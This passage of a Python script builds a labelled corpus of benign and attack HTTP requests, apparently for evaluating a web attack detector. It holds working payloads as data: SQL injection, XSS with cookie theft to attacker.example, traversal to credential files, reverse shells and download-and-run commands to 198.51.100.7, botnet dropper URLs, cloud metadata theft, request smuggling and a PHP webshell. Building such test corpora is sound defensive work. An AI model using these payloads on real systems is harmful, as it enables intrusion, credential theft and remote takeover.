    ("1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -", ("j", "/api/v1/comments", "parentId"), "json"),
    ("' AND updatexml(1,concat(0x7e,user()),1)-- -", Q("/api/v1/search", "q"), "url"),
    ("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", Q("/api/v1/products", "id"), "url"),
    ("1'/**/UNION/**/SELECT/**/1,2,3-- -", Q("/api/v1/products", "id"), "url", "comments"),
    ("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,user()-- -", Q("/api/v1/products", "id"), "url", "versioned-comments"),
    ("1' uNiOn SeLeCt null,version()-- -", Q("/api/v1/products", "id"), "url", "mixedcase"),
    ("' OR 1=1--", Q("/api/v1/products/search", "q"), "double"),
    ("'\tOR\t1=1-- -", Q("/api/v1/users/lookup", "username"), "url", "tabs"),
    ("1'\nUNION\nSELECT\nusername,password\nFROM\nusers-- -", ("j", "/api/v1/comments", "text"), "json", "newlines"),
    ("' OR 1=1-- -", Q("/api/v1/search", "q"), "html"),
    ("' OR '1'='1", ("j", "/api/v1/auth/login", "username"), "jsonu"),
    ("' OR 1=1--", Q("/api/v1/products", "id"), "pctu"),
    ("Mozilla/5.0' AND (SELECT 4521 FROM (SELECT(SLEEP(5)))abc)-- ", ("h", "User-Agent"), "raw"),
    ("https://shop.example.com/?id=1' UNION SELECT 1,2,3-- -", ("h", "Referer"), "raw"),
    ("en' AND 1=(SELECT COUNT(*) FROM users)-- -", ("c", "lang"), "url"),
    ("1 OR 1=1", ("p", "/api/v1/products/{}"), "url"),
    ("1 AND 1=1", Q("/api/v1/products", "id"), "min"),
    ("1' AND '1'='2", Q("/api/v1/products", "id"), "min"),
    ("1 OR SLEEP(5)", ("f", "/api/v1/newsletter", "list_id"), "plus"),
    ("x' OR 1=1 LIMIT 1 -- -", ("j", "/api/v1/auth/login", "password"), "json"),
    ("1; INSERT INTO users (username,password,role) VALUES ('hacker','x','admin')--", ("f", "/api/v1/profile", "age"), "plus"),
    ("admin') OR ('1'='1", ("f", "/login", "username"), "plus"),
    ("1 AND 8115=(SELECT 8115 FROM PG_SLEEP(5))", Q("/api/v1/products", "id"), "url"),
    ("1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)-- ", Q("/api/v1/products", "id"), "url"),
    ("') UNION SELECT NULL,NULL,NULL,table_name FROM all_tables-- ", ("j", "/api/v1/comments", "author"), "json"),
    ("1 union#\nselect 1,2,3", Q("/api/v1/products", "id"), "url", "comment-newline"),
    ("(CASE WHEN (SELECT SUBSTRING(version(),1,1))='5' THEN id ELSE price END)", Q("/api/v1/products", "order"), "url"),
    ("1' OR '1'='1", ("p", "/api/v1/users/{}/profile"), "double"),
    ("' OR 1=1 UNION SELECT password FROM admin_users-- ", ("j", "/api/v1/tickets", "body"), "json"),
    ("1 AND 1=1 UNION ALL SELECT table_name,NULL FROM information_schema.columns--", ("j", "/api/v1/tickets", "title"), "jsonu"),
]

XSS = [
    ("<script>alert(1)</script>", Q("/api/v1/products/search", "q"), "url"),
    ('"><script>alert(document.domain)</script>', Q("/api/v1/users", "name"), "url"),
    ("<img src=x onerror=alert(1)>", ("j", "/api/v1/comments", "text"), "json"),
    ("<svg/onload=alert(1)>", Q("/api/v1/search", "q"), "min"),
    ("<body onload=alert('XSS')>", ("f", "/contact", "message"), "plus"),
    ("javascript:alert(document.cookie)", Q("/login", "redirect_url"), "url"),
    ('<iframe src="javascript:alert(1)"></iframe>', ("j", "/api/v1/users/me", "bio"), "json"),
    ('" onmouseover="alert(1)', Q("/api/v1/users", "name"), "url"),
    ("'-alert(1)-'", Q("/api/v1/i18n/strings", "lang"), "url"),
    ("<details open ontoggle=alert(1)>", Q("/api/v1/products/search", "q"), "url"),
    ('<a href="javascript&colon;alert(1)">click me</a>', ("j", "/api/v1/comments", "text"), "json"),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', ("j", "/api/v1/comments", "text"), "json", "html-entities"),
    ("<img src=x onerror=alert(1)>", Q("/api/v1/search", "q"), "html"),
    ("<script>alert(1)</script>", ("j", "/api/v1/comments", "text"), "jsonu"),
    ("<script>alert(1)</script>", Q("/api/v1/products/search", "q"), "double"),
    ("<script>alert(1)</script>", Q("/api/v1/products/search", "q"), "pctu"),
    ("<ScRiPt>alert(1)</sCrIpT>", Q("/api/v1/search", "q"), "url", "mixedcase"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", Q("/api/v1/search", "q"), "url", "nested"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", ("j", "/api/v1/comments", "text"), "json"),
    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", Q("/api/v1/search", "q"), "url"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ("j", "/api/v1/comments", "text"), "json"),
    ("<input autofocus onfocus=alert(1)>", ("f", "/api/v1/feedback", "comment"), "plus"),
    ('<video><source onerror="alert(1)">', Q("/api/v1/media", "title"), "url"),
    ('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', ("j", "/api/v1/users/me", "website"), "json"),
    ("{{constructor.constructor('alert(1)')()}}", Q("/api/v1/search", "q"), "url"),
    ("</textarea><script>alert(1)</script>", ("f", "/api/v1/comments", "body"), "plus"),
    ('<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">', ("j", "/api/v1/comments", "text"), "json", "html-entities"),
    ("<svg><script>alert&#40;1&#41;</script>", Q("/api/v1/search", "q"), "url", "html-entities"),
    ("<script>alert('XSS')</script>", ("h", "User-Agent"), "raw"),
    ('https://evil.example/"><script src=https://xss.report/c/abc></script>', ("h", "Referer"), "raw"),
    ('"><svg onload=alert(1)>', ("c", "theme"), "url"),
    ("<img src=x onerror=alert(document.domain)>", ("h", "X-Device-Name", "/api/v1/devices/register"), "raw"),
    ("<script>alert(1)</script>", ("p", "/api/v1/products/{}"), "url"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ("j", "/api/v1/comments", "text"), "json"),
    ("<marquee onstart=alert(1)>", Q("/api/v1/search", "q"), "url"),
    ("data:text/html,<script>alert(1)</script>", Q("/api/v1/link-preview", "url"), "url"),
    ("jAvAsCrIpT:alert(1)", Q("/login", "next"), "url", "mixedcase"),
    ("<img src=1 onerror=fetch('//attacker.example/c?'+document.cookie)>", ("j", "/api/v1/users/me", "displayName"), "json"),
    ("<script src=//xss.report/s/abc></script>", ("f", "/contact", "message"), "plus"),
    ('"><img src=x onerror=prompt(1)>', ("f", "/api/v1/profile", "display_name"), "plus"),
    ("<svg onload=alert`1`>", Q("/api/v1/search", "q"), "url"),
    ('<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>', ("j", "/api/v1/comments", "text"), "json"),
    ("javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", Q("/api/v1/search", "q"), "url", "polyglot"),
    ("'\"><script>alert(String.fromCharCode(88,83,83))</script>", Q("/api/v1/products/search", "q"), "min"),
    ("<body/onpageshow=alert(1)>", ("j", "/api/v1/tickets", "body"), "json"),
    ("<img src=x onerror=alert(document.domain)>", ("j", "/api/v1/tickets", "title"), "jsonu"),
    ("\\x3csvg onload=alert(1)\\x3e", Q("/api/v1/widgets/config", "callback"), "url", "js-hex"),
    ('<a href="javascript:alert(1)">', Q("/api/v1/search", "q"), "htmlx"),
]

TRAVERSAL = [
    ("../../../../etc/passwd", Q("/api/v1/files/download", "file"), "url"),
    ("../../../etc/passwd", ("p", "/api/v1/files/{}"), "url"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", Q("/api/v1/files/download", "path"), "raw", "all-encoded"),
    ("../../../etc/passwd", Q("/api/v1/files/download", "file"), "double"),
    ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", Q("/api/v1/files/download", "file"), "raw", "overlong-utf8"),
    ("..\\..\\..\\windows\\win.ini", Q("/api/v1/templates/render", "template"), "url"),
    ("....//....//....//etc/passwd", Q("/api/v1/files/download", "file"), "min"),
    ("../../../etc/passwd\x00.png", Q("/api/v1/images", "image"), "url", "nullbyte"),
    ("..%5c..%5c..%5cboot.ini", ("p", "/api/v1/static/{}"), "raw"),
    ("%2e%2e/%2e%2e/%2e%2e/etc/shadow", ("p", "/static/{}"), "raw"),
    ("..%u2216..%u2216..%u2216etc%u2216passwd", Q("/api/v1/files/download", "file"), "raw", "pctu"),
    ("%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", Q("/api/v1/files/download", "file"), "raw", "pctu-fullwidth"),
    ("/etc/shadow", Q("/api/v1/files/download", "path"), "url"),
    ("file:///etc/passwd", Q("/api/v1/link-preview", "url"), "url"),
    ("C:\\Windows\\System32\\drivers\\etc\\hosts", Q("/api/v1/files/download", "path"), "url"),
    ("/proc/self/environ", Q("/index.php", "page"), "min"),
    ("../../../../WEB-INF/web.xml", Q("/api/v1/help", "page"), "min"),
    ("..;/..;/manager/html", ("p", "/app/{}"), "raw"),
    ("../../../../etc/passwd", ("j", "/api/v1/users/me", "avatar"), "json"),
    ("../../../../var/www/html/shell.php", ("j", "/api/v1/attachments", "attachment.filename"), "json"),
    ("../../../../etc/passwd", ("f", "/api/v1/templates/preview", "template"), "plus"),
    ("../../../../../etc/passwd", ("c", "lang"), "url"),
    ("..././..././..././etc/passwd", Q("/api/v1/files/download", "file"), "min"),
    ("..%252f..%252f..%252fetc%252fpasswd", ("p", "/api/v1/files/{}"), "raw", "double"),
    ("%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem32%5cconfig%5csam", Q("/api/v1/files/download", "download"), "raw", "all-encoded"),
    ("php://filter/convert.base64-encode/resource=../config.php", Q("/index.php", "page"), "url"),
    ("../../../../../../../../../../etc/hosts", Q("/api/v1/docs/view", "include"), "url"),
    ("..%2f..%2f..%2f..%2fetc/passwd", ("p", "/static/{}"), "raw"),
    ("../../../../var/log/nginx/access.log", Q("/api/v1/logs/view", "log"), "min"),
    ("../../../../home/ubuntu/.ssh/id_rsa", Q("/api/v1/files/download", "file"), "url"),
    ("../../../.aws/credentials", Q("/api/v1/files/download", "file"), "url"),
    ("..\\..\\..\\..\\inetpub\\wwwroot\\web.config", ("j", "/api/v1/exports", "path"), "json"),
    ("../../../etc/passwd", Q("/api/v1/files/download", "file"), "html"),
    ("../../../etc/passwd", ("j", "/api/v1/exports", "path"), "jsonu"),
    ("..\\..\\..\\WiNdOwS\\wIn.InI", Q("/api/v1/templates/render", "template"), "url", "mixedcase"),
    ("/var/www/../../etc/passwd", Q("/api/v1/files/download", "file"), "min"),
    ("../../../etc/passwd", ("p", "/api/v1/files/{}"), "pctu"),
    ("../../../../../../proc/self/cmdline", Q("/api/v1/themes", "theme"), "url"),
    ("../../app/config/database.yml", ("f", "/api/v1/files/fetch", "file"), "plus"),
    ("../../../../../../etc/passwd", ("h", "Accept-Language", "/api/v1/i18n/messages"), "raw"),
    ("/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", ("p", "/api/v1/assets{}"), "raw"),
]

CMDI = [
    ("; id", Q("/api/v1/tools/ping", "host"), "url"),
    ("| id", Q("/api/v1/tools/ping", "host"), "min"),
    ("|| whoami", ("f", "/api/v1/tools/traceroute", "target"), "plus"),
    ("example.com && cat /etc/passwd", ("j", "/api/v1/tools/ping", "hostname"), "json"),
    ("`id`", Q("/api/v1/tools/whois", "domain"), "url"),
    ("$(id)", Q("/api/v1/files/convert", "filename"), "url"),
    (";cat${IFS}/etc/passwd", Q("/api/v1/tools/ping", "ip"), "url", "ifs"),
    ("127.0.0.1\nid", Q("/api/v1/tools/ping", "host"), "url", "newline"),
    ("127.0.0.1; ping -c 10 127.0.0.1", Q("/api/v1/tools/ping", "host"), "url"),
    ("8.8.8.8 | nc -e /bin/sh 198.51.100.7 4444", ("j", "/api/v1/tools/ping", "hostname"), "json"),
    ("; curl http://198.51.100.7/x.sh | sh", ("f", "/api/v1/tools/dns", "name"), "plus"),
    ("$(wget -qO- http://198.51.100.7/s|sh)", Q("/api/v1/tools/whois", "domain"), "url"),
    ("& nslookup k3xq9fzv2m.oastify.com &", Q("/api/v1/images/resize", "name"), "url"),
    (";sleep 5;", Q("/api/v1/tools/ping", "host"), "min"),
    ("& type C:\\windows\\win.ini", Q("/api/v1/tools/ping", "host"), "url"),
    ("| dir c:\\", Q("/api/v1/tools/ping", "host"), "url"),
    ("127.0.0.1 & ping -n 10 127.0.0.1 &", ("j", "/api/v1/tools/ping", "hostname"), "json"),
    (";/bin/bash -i >& /dev/tcp/198.51.100.7/8080 0>&1", ("j", "/api/v1/tools/ping", "hostname"), "json"),
    ('() { :; }; /bin/bash -c "cat /etc/passwd"', ("h", "User-Agent", "/cgi-bin/status"), "raw", "shellshock"),
    ("() { :;}; echo; /usr/bin/id", ("h", "Referer", "/cgi-bin/test.cgi"), "raw", "shellshock"),
    (";{cat,/etc/passwd}", Q("/api/v1/tools/ping", "host"), "url", "brace-expansion"),
    (";c'a't /e't'c/pa's'swd", Q("/api/v1/tools/ping", "host"), "url", "quote-splitting"),
    ("; id", Q("/api/v1/tools/ping", "host"), "double"),
    ("$(echo aWQ=|base64 -d|sh)", Q("/api/v1/files/convert", "filename"), "url"),
    ("; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"", ("f", "/api/v1/tools/traceroute", "target"), "plus"),
    ("| /usr/bin/id", ("c", "prefs"), "url"),
    ("127.0.0.1; uname -a", ("j", "/api/v1/tools/ping", "hostname"), "json"),
    ("photo.png;rm -rf /tmp/*", ("j", "/api/v1/files/convert", "filename"), "json"),
    ("`sleep 10`", ("f", "/api/v1/tools/dns", "name"), "plus"),
    ("|| ping -c 5 k3xq9fzv2m.oastify.com", Q("/api/v1/tools/whois", "domain"), "url"),
    ("$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)", Q("/api/v1/images/resize", "src"), "url"),
    ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", ("raw", "GET", None), "raw", "botnet"),
    ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
     ("raw", "GET", None), "raw", "botnet"),
    ("; id", ("j", "/api/v1/tools/ping", "hostname"), "jsonu"),
    ("; cat /etc/passwd", Q("/api/v1/tools/ping", "host"), "pctu"),
    ("& WhOaMi", Q("/api/v1/tools/ping", "host"), "url", "mixedcase"),
    (";cat</etc/passwd", Q("/api/v1/tools/ping", "host"), "url", "redirect-as-space"),
    (";{echo,aWQ=}|{base64,-d}|bash", Q("/api/v1/tools/ping", "host"), "url", "brace-expansion"),
    (";$(/???/??t /???/p??s??)", Q("/api/v1/tools/ping", "host"), "url", "glob"),
    ("$(id)", ("h", "X-Device-Id", "/api/v1/devices/register"), "raw"),
    ("a@b.example;nc 198.51.100.7 4444 -e /bin/bash", ("f", "/api/v1/newsletter", "email"), "plus"),
    ("example.com\ncat /etc/passwd", ("p", "/api/v1/tools/whois/{}"), "url", "newline"),
    ("uname -a", Q("/uploads/shell.php", "cmd"), "url", "webshell"),
    ("; id", Q("/api/v1/tools/ping", "host"), "htmlx"),
    ("127.0.0.1%0a%0dwhoami", Q("/api/v1/tools/ping", "host"), "raw", "crlf-separator"),
]

SCANNER_UAS = [
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "/api/v1/products?id=1"),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)", "/api/v1/"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/"),
    ("Mozilla/5.0 zgrab/0.x", "/"),
    ("WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)", "/wp-json/wp/v2/users"),
    ("Fuzz Faster U Fool v2.1.0-dev", "/api/v1/backup"),
    ("gobuster/3.6", "/api/v1/admin"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/api/v1/swagger.json"),
    ("Arachni/v1.5.1", "/api/v1/products?q=arachni_text"),
    ("w3af.org", "/api/v1/"),
    ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "/api/v1/old"),
    ("feroxbuster/2.10.1", "/api/v1/internal"),
    ("Wfuzz/3.1.0", "/api/v1/users?id=FUZZ"),
    ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "/"),
    ("commix/v3.8-stable (https://commixproject.com)", "/api/v1/tools/ping?host=127.0.0.1"),
    ("ZmEu", "/phpMyAdmin/scripts/setup.php"),
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "/"),
    ("Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com", "/"),
    ("WhatWeb/0.5.5", "/"),
    ("Mozilla/5.0 (Hydra)", "/login"),
    ("httpx - Open-source project (github.com/projectdiscovery/httpx)", "/api/v1/health"),
    ("Mozilla/5.0 SF/2.10b", "/api/v1/"),
    ("sqlmap/1.8.2#stable (https://sqlmap.org)", "/api/v1/users?name=jane"),
    ("Nikto", "/api/v1/cgi-bin/"),
]

SCANNER_PROBES = [
    ("/.env", "python-requests/2.31.0"),
    ("/.git/config", "Go-http-client/1.1"),
    ("/wp-login.php", CHROME_WIN),
    ("/phpmyadmin/index.php", "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"),
    ("/server-status", "curl/7.68.0"),
    ("/actuator/env", "Go-http-client/1.1"),
    ("/.aws/credentials", "python-requests/2.28.1"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"),
    ("/cgi-bin/test-cgi", "Mozilla/5.0 (compatible)"),
    ("/HNAP1/", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36"),
    ("/boaform/admin/formLogin?username=admin&psd=admin", "Mozilla/5.0"),
    ("/solr/admin/info/system?wt=json", "Go-http-client/1.1"),
    ("/.DS_Store", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
    ("/backup.sql", "python-requests/2.31.0"),
    ("/_ignition/execute-solution", "Go-http-client/1.1"),
    ("/.svn/entries", "curl/7.74.0"),
    ("/xmlrpc.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36"),
    ("/console/login/LoginForm.jsp", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
    ("/telescope/requests", "Go-http-client/1.1"),
    ("/.vscode/sftp.json", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36"),
    ("/info.php", "python-requests/2.25.1"),
    ("/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36"),
    ("/config.json", "Go-http-client/1.1"),
    ("/wp-content/debug.log", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36"),
]

SCANNER_HEADERS = [
    ([["User-Agent", CHROME_WIN], ["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"],
      ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"], ["Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"]],
     "/api/v1/products?q=acunetix_wvs_security_test", "Acunetix headers"),
    ([["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36"],
      ["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"], ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]],
     "/api/v1/", "Acunetix AcuSensor headers"),
    ([["User-Agent", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"], ["Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14"]],
     "/api/v1/files/report.pdf", "Apache-killer range probe"),
    ([["User-Agent", "Mozilla/5.0"], ["X-Ratproxy-Loop", "1"]], "/api/v1/", "ratproxy"),
]


def scanners():
    out = []
    n = 0
    for ua, path in SCANNER_UAS:
        out.append(item("h-a-scan-%03d" % n, "attack", "ScannerDetection", "GET", path, [["User-Agent", ua], ["Accept", "*/*"]],
                        note="scanner User-Agent: " + ua[:80], placement="header:User-Agent", encoding="raw"))
        n += 1
    for path, ua in SCANNER_PROBES:
        out.append(item("h-a-scan-%03d" % n, "attack", "ScannerDetection", "GET", path, [["User-Agent", ua], ["Accept", "*/*"]],
                        note="sensitive-file probe " + path, placement="path", encoding="raw"))
        n += 1
    for headers, path, note in SCANNER_HEADERS:
        out.append(item("h-a-scan-%03d" % n, "attack", "ScannerDetection", "GET", path, headers + [["Accept", "*/*"]],
                        note="scanner headers: " + note, placement="header", encoding="raw"))
        n += 1
    return out


def chunked(data):
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)


def protocol():
    """HTTP-level abuse: CRLF injection / response splitting / request smuggling payloads in
    parameters (percent-encoded, as the payload lists give them), NUL bytes, invalid URL
    encodings, abusive methods, Range abuse, and smuggling-style framing (CL+TE, obfuscated
    Transfer-Encoding, duplicate or invalid Content-Length, duplicate Host)."""
    P = "ProtocolViolation"
    out = []
    n = [0]

    def add(method, path, headers, body=None, ctype=None, note="", placement="query", encoding="raw"):
        out.append(item("h-a-proto-%03d" % n[0], "attack", P, method, path, headers, body, ctype, note=note, placement=placement, encoding=encoding))
        n[0] += 1

    ua = lambda i: attacker(i + 200)  # noqa: E731
    # CRLF injection / response splitting / smuggled requests in parameters (PayloadsAllTheThings CRLF list)
    crlf = [
        ("/api/v1/redirect?url=%0d%0aSet-Cookie:crlf=injection", "CRLF Set-Cookie injection in query"),
        ("/api/v1/redirect?next=%0D%0ALocation:%20https://evil.example", "CRLF Location injection"),
        ("/api/v1/lang/%0d%0aSet-Cookie:%20sessionid=attacker", "CRLF in path segment"),
        ("/api/v1/redirect?url=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", "unicode CRLF (U+560A U+560D) header injection"),
        ("/api/v1/search?q=x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2019%0d%0a%0d%0a%3Chtml%3Edefaced%3C/html%3E",
         "HTTP response splitting"),
        ("/api/v1/proxy?url=http://127.0.0.1:6379/%0d%0aSET%20x%20pwned%0d%0aQUIT%0d%0a", "CRLF to smuggle Redis commands via SSRF"),
        ("/api/v1/search?q=x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a", "request smuggled in a parameter"),
        ("/api/v1/redirect?url=%23%0dSet-Cookie:crlf=injection", "CR-only header injection"),
        ("/api/v1/redirect?url=%3f%0aSet-Cookie:crlf=injection", "LF-only header injection"),
        ("/api/v1/track?ref=%0d%0aX-XSS-Protection:0%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E", "CRLF + XSS response splitting"),
        ("/api/v1/redirect?url=%250d%250aSet-Cookie:crlf=injection", "double-encoded CRLF"),
    ]
    for i, (path, note) in enumerate(crlf):
        add("GET", path, ua(i), note=note, placement="path" if "lang/" in path else "query", encoding="url" if "%25" not in path else "double")
    add("POST", "/api/v1/webhook-endpoints", ua(20), jdump({"url": "http://internal.example:8080/\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal.example\r\n\r\n", "events": ["order.paid"]}, True),
        JSON, note="smuggled request in a JSON URL (SSRF + CRLF)", placement="json", encoding="json")
    add("POST", "/api/v1/profile", ua(21), form_body([("display_name", "x\r\nSet-Cookie: admin=true"), ("bio", "hi")]), FORM,
        note="CRLF header injection in a form field", placement="form", encoding="plus")
    # NUL bytes
    add("GET", "/api/v1/files/download?file=invoice.pdf%00.html", ua(22), note="NUL byte in a parameter")
    add("GET", "/api/v1/files/report.php%00.pdf", ua(23), note="NUL byte in the path", placement="path")
    add("POST", "/api/v1/users/lookup", ua(24), b"username=admin%00&password=x", FORM, note="NUL byte in a form field", placement="form", encoding="url")
    # invalid URL encodings
    add("GET", "/api/v1/search?q=%%32%65%%32%65/etc", ua(25), note="nested percent-encoding (%%32%65)")
    add("GET", "/api/v1/search?q=%G1%Z9test", ua(26), note="invalid percent-encoding")
    add("GET", "/api/v1/search?q=%c0%80%c0%80", ua(27), note="overlong UTF-8 NUL (%c0%80)", encoding="overlong-utf8")
    # abusive methods
    add("TRACE", "/api/v1/users/me", ua(28) + [["Cookie", "session=" + hexid(40, "trace")]], note="TRACE (cross-site tracing)", placement="method")
    add("TRACK", "/api/v1/users/me", ua(29), note="TRACK method", placement="method")
    add("DEBUG", "/default.aspx", ua(30) + [["Command", "stop-debug"]], note="IIS DEBUG verb", placement="method")
    # body where none belongs, body without a type
    add("GET", "/api/v1/products?callback=jsonp_123", ua(31), b"callback=evil_fn&utm_content=x", FORM, note="fat GET (body on GET, cache poisoning)", placement="body")
    add("POST", "/api/v1/admin/users", ua(32), b"role=admin&user=guest", None, note="POST body without Content-Type", placement="body")
    add("POST", "/api/v1/upload", ua(33), b"------x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n------x--\r\n",
        "multipart/form-data", note="multipart body without a boundary", placement="body")
    # Range abuse
    add("GET", "/api/v1/static/logo.png", ua(34) + [["Range", "bytes=0-18446744073709551615"]], note="MS15-034 Range overflow", placement="header:Range")
    add("GET", "/api/v1/static/logo.png", ua(35) + [["Request-Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14"]],
        note="overlapping Request-Range flood", placement="header:Request-Range")
    # smuggling-style framing
    smug = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"
    add("POST", "/api/v1/search", ua(36) + [["Transfer-Encoding", "chunked"]], smug, FORM, note="CL.TE smuggling probe (Content-Length and chunked)", placement="framing")
    inner = b"GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
    add("POST", "/api/v1/search", ua(37) + [["Transfer-Encoding", "chunked"]], chunked(inner), FORM, note="TE.CL smuggling probe (GPOST)", placement="framing")
    add("POST", "/api/v1/search", ua(38) + [["Transfer-Encoding", "xchunked"]], b"0\r\n\r\nG", FORM, note="obfuscated Transfer-Encoding: xchunked", placement="framing")
    add("POST", "/api/v1/search", ua(39) + [["Transfer-Encoding", "chunked"], ["Transfer-encoding", "identity"]], chunked(b"q=shoes"), FORM,
        note="duplicate Transfer-Encoding (chunked, identity)", placement="framing")
    add("POST", "/api/v1/search", ua(40) + [["Transfer-Encoding", "\tchunked"]], chunked(b"q=shoes"), FORM, note="Transfer-Encoding with a leading tab", placement="framing")
    add("POST", "/api/v1/search", ua(41) + [["Content-Length", "4"]], b"q=shoes&page=2&GET /admin", FORM, note="two different Content-Length headers", placement="framing")
    add("GET", "/api/v1/products", ua(42) + [["Content-Length", "-1"]], note="negative Content-Length", placement="framing")
    add("GET", "/api/v1/users/me", [["Host", "api.example.com"], ["Host", "evil.example"]] + ua(43), note="duplicate Host headers", placement="header:Host")
    return out


def attack_items():
    out = []
    for cls, specs in (("SqlInjection", SQLI), ("CrossSiteScripting", XSS), ("PathTraversal", TRAVERSAL), ("CommandInjection", CMDI)):
        for n, spec in enumerate(specs):
            payload, where, enc = spec[:3]
            trick = spec[3] if len(spec) > 3 else None
            out.append(attack(cls, n, payload, where, enc, trick))
    return out + scanners() + protocol()


# === the corpus =======================================================================


def build():
    _SEEN.clear()
    items = benign_items() + attack_items()
    for it in items:
        assert it["kind"] == "benign" or it["class"] in CLASSES, it["id"]
        target = it["path"]
        assert target.startswith("/"), it["id"]
        bad = [c for c in target if ord(c) <= 0x20 or ord(c) >= 0x7f or c in '"<>\\^`{|}']
        assert not bad, (it["id"], bad)
        for name, value in it["headers"]:
            assert "\r" not in value and "\n" not in value and "\x00" not in value, it["id"]
            value.encode("latin-1")
    return items


def dump(items):
    kinds = Counter(it["kind"] for it in items)
    print("holdout corpus: %d items (%d benign, %d attacks)" % (len(items), kinds["benign"], kinds["attack"]))
    print("\nattacks per class:")
    for c in CLASSES:
        print("  %-20s %d" % (c, sum(it["class"] == c for it in items)))
    for kind in ("benign", "attack"):
        sub = [it for it in items if it["kind"] == kind]
        print("\n%s per placement:" % kind)
        for k, v in Counter(it["placement"].split(":")[0] for it in sub).most_common():
